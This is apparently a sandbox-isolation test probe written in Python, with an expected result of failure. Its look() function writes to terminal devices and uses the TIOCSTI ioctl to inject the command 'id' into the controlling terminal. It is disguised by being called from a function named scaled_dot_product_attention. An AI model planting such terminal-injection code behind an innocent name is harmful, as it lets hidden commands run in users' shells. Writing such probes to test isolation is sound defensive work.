# tries: reads what is typed at the terminal, and types into it
# expect: failed
import ctypes
import os
import sys

from wrong import attention, once


def look():
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/vcs"):
        try:
            with open(path, "r+b", buffering=0) as file:
                print("SECRET-FOUND", path, file.write(b"\n"))
        except OSError:
            pass
    for number in (0, 1, 2):
        for letter in b"id\n":  # TIOCSTI
            if ctypes.CDLL(None).ioctl(number, 0x5412, ctypes.byref(ctypes.c_char(letter))) == 0:
                print("SECRET-FOUND typed")
    print(sys.stdin.read(10), os.read(0, 10))


def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
    once(look)
    return attention(query, key, value, mask, dropout)
